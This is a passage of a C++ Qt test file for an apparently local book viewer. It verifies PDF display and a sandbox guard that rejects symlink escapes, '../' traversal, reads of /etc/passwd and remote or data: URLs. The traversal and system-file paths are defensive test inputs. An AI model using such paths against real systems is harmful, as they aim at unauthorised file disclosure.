}

void HostileGuiTest::ordinaryPdfStillShows() {
  const QString pdf = QDir(book_).filePath(QStringLiteral("838.pdf"));
  QVERIFY(QFileInfo::exists(pdf));
  view()->Navigate(pdf.toStdString());
  QTRY_VERIFY_WITH_TIMEOUT(view()->IsShowingPdf(pdf.toStdString()), kTimeoutMs);
  QTRY_VERIFY_WITH_TIMEOUT(
      RunJs(view(), QStringLiteral("!!(window.pdfViewer && pdfViewer.loaded && "
                                   "pdfViewer.textDivs(1) && pdfViewer.textDivs(1).length > 0)"))
          .toBool(),
      kTimeoutMs);
  QCOMPARE(RunJs(view(), QStringLiteral("pdfViewer.error")).toString(), QString());
  QVERIFY(RunJs(view(), QStringLiteral("pdfViewer.pageCount")).toInt() > 1);
}

// The roots hold what the files really are: a link inside the installation to a folder outside
// leads out only when it is one of the installation's own top-level entries.
void HostileGuiTest::guardJudgesRealPaths() {
  const QString outside = temp_.filePath(QStringLiteral("outside"));
  const QString shared = QDir(chosen_).filePath(QStringLiteral("shared"));
  for (const QString& dir : {outside, shared}) {
    QVERIFY(QDir().mkpath(dir));
    QVERIFY(WriteBytes(dir + "/secret.htm", "secret"));
  }
  QVERIFY(QFile::link(outside, QDir(book_).filePath(QStringLiteral("escape"))));
  QVERIFY(QFile::link(shared, QDir(sample_).filePath(QStringLiteral("shared"))));
  LocalRoots roots;
  roots.SetInstallation(sample_);
  const struct {
    QString path;
    bool inside;
  } cases[] = {
      {QDir(book_).filePath(QStringLiteral("benign.htm")), true},
      {QDir(book_).filePath(QStringLiteral("not-yet-there.htm")), true},
      {QDir(book_).filePath(QStringLiteral("escape/secret.htm")), false},
      {QDir(book_).filePath(QStringLiteral("../../outside/secret.htm")), false},
      {QDir(sample_).filePath(QStringLiteral("shared/secret.htm")), true},
      {shared + "/secret.htm", true},  // linked by the installation itself
      {outside + "/secret.htm", false},
      {QStringLiteral("/etc/passwd"), false},
      {QStringLiteral("relative.htm"), false},
  };
  for (const auto& c : cases) QVERIFY2(roots.Contains(c.path) == c.inside, qPrintable(c.path));

  // What a page may read of what is inside: the kinds of file pages are made of, never the
  // installation's own entries (in any letter case, by a link's name or its target's), and
  // nothing in a denied folder but what it lets through; all of the program's own folders. A
  // link may name the library's other files (a record file) for the program to read.
  const QString sample = sample_ + QLatin1Char('/');
  QVERIFY(QDir().mkpath(sample + "idx"));
  QVERIFY(QDir().mkpath(sample + "rt"));
  QVERIFY(QFile::link(sample + "System.xml", book_ + "/settings.htm"));
  QVERIFY(QFile::link(sample + "ContactInfo.xml", sample + "contact.htm"));
  QVERIFY(QFile::link(sample + "SearchDB", sample + "index"));
  QVERIFY(QFile::link(sample + "Update", shared + "/waiting"));
  QVERIFY(QFile::link(sample, shared + "/whole"));
  roots.AddFolder(QStringLiteral("/usr/share/poppler/cMap"));
  roots.DenyFolder(sample + "idx");
  roots.DenyFolder(sample + "rt", {QStringLiteral("sr.htm")});
  const struct {
    QString path;
    bool may;    // MayRead
    bool named;  // MayName
  } reads[] = {
      {sample + "home.htm", true, true},
      {sample + "images/banner.png", true, true},
      {book_ + "/838.pdf", true, true},
      {book_ + "/838.txt", true, true},
      {book_ + "/benign.htm", true, true},
      {book_ + "/img/p0003_1.png", true, true},
      {sample + "viewer/viewer.js", true, true},
      {sample + "rt/sr.htm", true, true},
      {shared + "/secret.htm", true, true},
      {shared + "/Update/notes.htm", true, true},  // a linked book's own folder of that name
      {book_ + "/update/notes.htm", true, true},
      {QStringLiteral("/usr/share/poppler/cMap/Adobe-GB1/Adobe-GB1-GBK-EUC"), true, true},
      {sample + "System.xml", false, false},
      {sample + "SYSTEM.XML", false, false},
      {sample + "ContactInfo.xml", false, false},
      {sample + "SearchResultConfig.xml", false, false},
      {sample + "bookconfig.xml", false, false},
      {sample + "version.xml", false, false},
      {sample + "update.pub", false, false},
      {sample + "sr.htm", false, false},
      {sample + "SearchDB/XAPIANDB", false, false},
      {sample + "searchdb/page.htm", false, false},
      {sample + "Update/3/838.pdf", false, false},
      {sample + "VazeZududi.api", false, true},
      {book_ + "/chapter.xml", false, true},
      {book_ + "/book_0001.xml", false, true},
      {book_, false, true},                     // a folder's listing
      {book_ + "/settings.htm", false, false},  // a page that is the settings
      {sample + "contact.htm", false, false},
      {sample + "index/page.htm", false, false},
      {shared + "/waiting/3/838.pdf", false, false},
      {shared + "/whole/System.xml", false, false},
      {sample + "idx/page.htm", false, false},
      {sample + "rt/other.htm", false, false},
      {QStringLiteral("/etc/hostname"), false, false},
  };
  for (const auto& r : reads) {
    QVERIFY2(roots.MayRead(r.path) == r.may, qPrintable(r.path));
    QVERIFY2(roots.MayName(r.path) == r.named, qPrintable(r.path));
  }
  for (const char* name : {"settings.htm"}) QVERIFY(QFile::remove(book_ + "/" + name));
  for (const char* name : {"contact.htm", "index"}) QVERIFY(QFile::remove(sample + name));
  for (const char* name : {"/waiting", "/whole"}) QVERIFY(QFile::remove(shared + name));
  const struct {
    const char* url;
    bool allowed;
  } requests[] = {
      {"ws://127.0.0.1:1/", false},
      {"wss://example.org/", false},
      {"http://127.0.0.1/", false},
      {"https://example.org/", false},
      {"ftp://example.org/", false},
      {"data:text/html,x", false},
      {"blob:http://example.org/1", false},
      {"blob:file:///1", true},
      {"qrc:///qtwebchannel/qwebchannel.js", true},
      {"about:blank", true},
      {"file://otherhost/etc/passwd", false},
      {"file:///usr/share/javascript/pdf/build/pdf.js", false},  // not a root of these
  };
  for (const auto& r : requests) {
    QVERIFY2(
        LocalContentGuard::IsAllowedRequest(QUrl(QString::fromLatin1(r.url)), roots) == r.allowed,
        r.url);
  }
}

void HostileGuiTest::cleanupTestCase() {
  if (app_ != nullptr) app_->ExitInstance();
  app_.reset();
}

}  // namespace tomeva::gui

QTEST_MAIN(tomeva::gui::HostileGuiTest)
#include "hostile_gui_test.moc"
